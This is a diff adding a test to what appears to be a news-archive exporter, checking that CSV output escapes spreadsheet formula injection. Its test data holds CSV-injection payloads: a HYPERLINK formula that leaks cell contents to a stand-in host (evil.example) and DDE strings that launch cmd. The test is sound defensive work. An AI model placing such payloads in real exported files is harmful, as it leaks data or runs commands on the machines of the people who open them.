@@ -193,3 +193,25 @@ def test_warc_export_names_a_damaged_capture(archive, tmp_path: Path) -> None:  
         export(store, "warc", ArchiveFilter(), tmp_path / "archive.warc.gz")
     assert "capture 2 (" in str(info.value)
     assert "raqib verify" in str(info.value)
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+cmd|' /C calc'!A1",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
+
+
+def test_csv_cells_never_start_a_formula(store: Store, archive, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    ids = [row["id"] for row in store.query("SELECT id FROM articles ORDER BY id")]
+    with store.transaction():
+        for article_id, title in zip(ids, FORMULAS, strict=False):
+            store.db.execute("UPDATE articles SET title = ? WHERE id = ?", [title, article_id])
+        store.db.execute("UPDATE articles SET governorate = '=1+1', text = '-note' "
+                         "WHERE id = ?", [ids[0]])
+    path = tmp_path / "out.csv"
+    export(store, "csv", ArchiveFilter(), path)
+    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row.values() if cell]
+    assert not [c for c in cells if c[0] in "=+-@\t\r"]
+    titles = {row["title"] for row in rows}
+    assert {"'" + f for f in FORMULAS[: len(ids)]} <= titles
+    assert "'=1+1" in {row["governorate"] for row in rows}
+    assert "'-note" in {row["text"] for row in rows}
